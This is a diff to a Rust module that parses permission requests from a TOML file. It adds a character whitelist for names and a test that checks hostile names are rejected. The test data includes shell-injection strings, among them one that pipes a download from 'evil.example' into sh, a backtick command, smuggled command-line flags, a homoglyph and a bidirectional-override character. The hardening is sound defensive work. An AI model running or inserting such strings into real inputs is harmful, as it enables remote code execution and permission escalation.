@@ -17,8 +17,9 @@
 //! "api.example.com" = "the service"
 //! ```
 //!
-//! A `*` in a name stands for one part between dots. What is not requested is not given, whatever
-//! the operator grants.
+//! A name consists of ASCII letters, digits, `_`, `-`, `.` and `*`; that of a server may also have
+//! the `:`, `/`, `[` and `]` of an [`HttpGrant`](crate::http::HttpGrant). A `*` in a name stands
+//! for one part between dots. What is not requested is not given, whatever the operator grants.
 
 use std::collections::BTreeMap;
 
@@ -112,7 +113,7 @@ impl Requests {
         let text: Text =
             toml::from_str(text).map_err(|error| refuse(error.message().to_owned()))?;
         let mut entries = 0;
-        let mut request = |name: String, why: String| {
+        let mut request = |name: String, why: String, also: &str| {
             entries += 1;
             if entries > MAX_ENTRIES {
                 return Err(refuse(format!("there are more than {MAX_ENTRIES}")));
@@ -122,6 +123,15 @@ impl Requests {
                     "a name has 1 to {NAME_BYTES} bytes, and a reason at most {WHY_BYTES}"
                 )));
             }
+            // An operator pastes what `syncmgr inspect` shows.
+            let is_plain =
+                |c: char| c.is_ascii_alphanumeric() || "_-.*".contains(c) || also.contains(c);
+            if !name.chars().all(is_plain) {
+                return Err(refuse(format!(
+                    "the name {name:?} has other characters than letters, digits, `_`, `-`, `.` \
+                     and `*`"
+                )));
+            }
             Ok(Request { name, why })
         };
         if text.clsid.is_some_and(|clsid| clsid.is_nil()) {
@@ -129,21 +139,21 @@ impl Requests {
         }
         let mut requests = Self { clsid: text.clsid, ..Self::default() };
         for (name, directory) in text.directories {
-            let Request { name, why } = request(name, directory.why)?;
+            let Request { name, why } = request(name, directory.why, "")?;
             let access = directory.access;
             requests.directories.push(DirectoryRequest { name, access, why });
         }
         for (capability, why) in text.allow {
-            let Request { why, .. } = request(capability.name().to_owned(), why)?;
+            let Request { why, .. } = request(capability.name().to_owned(), why, "")?;
             requests.capabilities.push((capability, why));
         }
-        for (from, to) in [
-            (text.settings, &mut requests.settings),
-            (text.secrets, &mut requests.secrets),
-            (text.http, &mut requests.http),
+        for (from, to, also) in [
+            (text.settings, &mut requests.settings, ""),
+            (text.secrets, &mut requests.secrets, ""),
+            (text.http, &mut requests.http, ":/[]"),
         ] {
             for (name, why) in from {
-                to.push(request(name, why)?);
+                to.push(request(name, why, also)?);
             }
         }
         Ok(requests)
@@ -253,6 +263,40 @@ mod tests {
             let refused = Requests::parse(text);
             let shown = String::from_utf8_lossy(&text[..text.len().min(40)]);
             assert!(matches!(refused, Err(ContractError::Requests { .. })), "{shown}");
+        }
+    }
+
+    #[test]
+    fn a_name_has_no_character_that_means_something_to_a_shell() {
+        let tables = ["directories", "settings", "secrets", "http"];
+        for (name, good) in [
+            ("left", [true; 4]),
+            ("*.My_docs-2", [true; 4]),
+            ("*.example.com", [true; 4]),
+            ("local:https://[::1]:8080", [false, false, false, true]),
+            ("source=$HOME;curl -s evil.example|sh;#", [false; 4]),
+            ("inbox=/ --allow wall-clock --dir x", [false; 4]),
+            ("s\u{43e}urce", [false; 4]),
+            ("mode=`id`", [false; 4]),
+            ("token=env:HOME", [false; 4]),
+            ("a b", [false; 4]),
+            ("a\nb", [false; 4]),
+            ("a\u{202e}b", [false; 4]),
+            ("a/b", [false, false, false, true]),
+            ("~", [false; 4]),
+            ("a'b", [false; 4]),
+            ("!a", [false; 4]),
+        ] {
+            for (table, good) in tables.iter().zip(good) {
+                let key = toml::Value::String(name.to_owned());
+                let value = match *table {
+                    "directories" => "{ access = \"read-only\" }",
+                    _other => "\"why\"",
+                };
+                let text = format!("[{table}]\n{key} = {value}\n");
+                let parsed = Requests::parse(text.as_bytes());
+                assert_eq!(parsed.is_ok(), good, "{text}: {parsed:?}");
+            }
         }
     }
 }
